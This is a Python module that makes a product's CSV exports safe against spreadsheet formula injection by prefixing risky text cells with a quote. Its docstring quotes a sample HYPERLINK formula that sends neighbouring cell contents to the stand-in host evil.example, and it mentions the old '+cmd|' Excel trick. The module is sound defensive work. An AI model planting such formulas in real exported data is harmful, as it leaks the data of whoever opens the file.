"""The one CSV writer of the product: every CSV it writes goes through ``csv_writer``.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?d="&B2,"Open")`` sends the neighbouring cells
away; ``+cmd|…`` ran programs in old Excel). Text cells starting with one of those, or a
tab or carriage return (the OWASP "CSV injection" rule), possibly after spaces, get a
leading ``'``: the spreadsheet shows the text and runs nothing.

Only *text* is neutralised: a number (``int``, ``float``, ``Decimal``) is written as is,
so a negative indicator value stays ``-2.5`` and sorts as a number. Lists are joined with
``;`` (each item neutralised), booleans are ``true``/``false``, ``None`` is empty, dates
and times ISO 8601 (docs/open-data.md).
"""

from __future__ import annotations

import csv
from datetime import date, datetime
from decimal import Decimal

FORMULA_STARTS = frozenset("=+-@\t\r")


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it and never runs it."""
    if text.lstrip(" ")[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return str(int(value) if value == value.to_integral_value() else float(value))
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return ";".join(neutralise(str(item)) for item in value)
    return neutralise(str(value))


class _SafeWriter:
    def __init__(self, buffer) -> None:
        self._writer = csv.writer(buffer)

    def writerow(self, row) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(buffer) -> _SafeWriter:
    """A ``csv.writer`` (RFC 4180, ``\\r\\n``) whose every cell goes through ``csv_cell``."""
    return _SafeWriter(buffer)
